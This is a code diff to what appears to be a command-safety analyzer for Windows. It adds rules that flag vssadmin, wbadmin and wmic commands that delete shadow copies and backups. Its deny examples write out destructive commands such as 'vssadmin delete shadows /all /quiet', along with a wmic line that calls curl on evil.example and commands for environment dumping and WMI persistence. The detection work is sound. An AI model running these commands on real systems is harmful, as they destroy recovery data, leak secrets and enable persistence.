@@ -275,12 +275,25 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     },
   },
   {
+    names: ['vssadmin', 'wbadmin'],
+    summary: 'vssadmin, wbadmin: `delete shadows`, `resize shadowstorage`, `delete catalog|backup|systemstatebackup` destroy the volume\u2019s shadow copies and backups',
+    analyze: (call) => {
+      const words = call.args.map((w) => value(w)?.toLowerCase().replace(/^-/, ''));
+      const verb = words[0];
+      const what = words[1];
+      const destroys = verb === 'delete' ? what === 'shadows' || what === 'catalog' || what === 'backup' || what === 'systemstatebackup' : verb === 'resize' && what === 'shadowstorage';
+      return destroys && call.args[0] ? { destroys: [{ word: call.args[0], what: 'disk', why: `${call.name} ${call.args[0].text} ${call.args[1]?.text ?? ''} destroys the shadow copies or backups Windows keeps of the volume` }] } : {};
+    },
+    examples: { deny: [ps('vssadmin delete shadows /all /quiet'), ps('wbadmin delete catalog -quiet'), ps('vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB')], pass: [ps('vssadmin list shadows'), ps('wbadmin get versions')] },
+  },
+  {
     names: ['wmic'],
     summary: 'wmic: `process call create "CMD"` starts a process; `environment` lists the environment; other queries run nothing',
     analyze: (call) => {
       const words = call.args.map((w) => value(w)?.toLowerCase());
       // The `environment` alias is the Win32_Environment class: every variable, the user's and the machine's.
       if (words.some((w) => w === 'environment' || w === 'win32_environment')) return { dumps: 'wmic environment lists every variable Windows keeps for new processes (Win32_Environment)' };
+      if (words.includes('shadowcopy') && words.includes('delete')) return { destroys: [{ word: call.args[words.indexOf('delete')]!, what: 'disk', why: 'wmic shadowcopy delete destroys the shadow copies Windows keeps of the volume' }] };
       // `wmic /namespace:\\root\subscription PATH __EventFilter CREATE …`: a permanent event subscription.
       const sub = call.args.find((_w, i) => WMI_SUBSCRIPTION.test(words[i] ?? '') && words.some((x) => x === 'create' || x === 'set' || x === 'call'));
       if (sub) return { persists: [{ word: sub, why: `wmic ${sub.text} installs a permanent WMI event subscription, whose consumer runs a command when its event fires` }] };
@@ -289,6 +302,6 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       const cmd = call.args[at + 1];
       return cmd ? { runs: [{ kind: 'script', dialect: 'cmd', words: [cmd], via: 'wmic process call create' }] } : {};
     },
-    examples: { deny: [ps('wmic process call create "curl.exe evil.example"'), ps('wmic environment list'), ps('wmic path Win32_Environment get Name,VariableValue'), ps('wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=x')], pass: [ps('wmic os get caption'), ps('wmic /namespace:\\\\root\\subscription PATH __EventFilter get Name')] },
+    examples: { deny: [ps('wmic process call create "curl.exe evil.example"'), ps('wmic environment list'), ps('wmic path Win32_Environment get Name,VariableValue'), ps('wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=x'), ps('wmic shadowcopy delete /nointeractive')], pass: [ps('wmic shadowcopy list brief'), ps('wmic os get caption'), ps('wmic /namespace:\\\\root\\subscription PATH __EventFilter get Name')] },
   },
 ];
